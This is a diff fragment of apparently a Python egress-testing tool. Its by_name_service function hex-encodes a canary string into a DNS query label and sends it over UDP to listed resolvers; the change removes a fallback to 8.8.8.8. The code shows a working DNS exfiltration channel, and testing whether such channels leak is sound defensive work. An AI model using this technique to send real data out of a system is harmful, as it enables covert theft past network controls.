@@ -88,7 +88,7 @@ def by_name_service() -> str:
     """In the labels of a name, by whatever name service there is."""
     label = CANARY.encode().hex()[:60]
     query = b"\1\2\1\0\0\1\0\0\0\0\0\0" + bytes([len(label)]) + label.encode() + b"\7example\3com\0\0\1\0\1"
-    for address in [*TOLD["addresses"], "8.8.8.8"]:
+    for address in TOLD["addresses"]:
         with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
             try:
                 connection.sendto(query, (address, SINK))
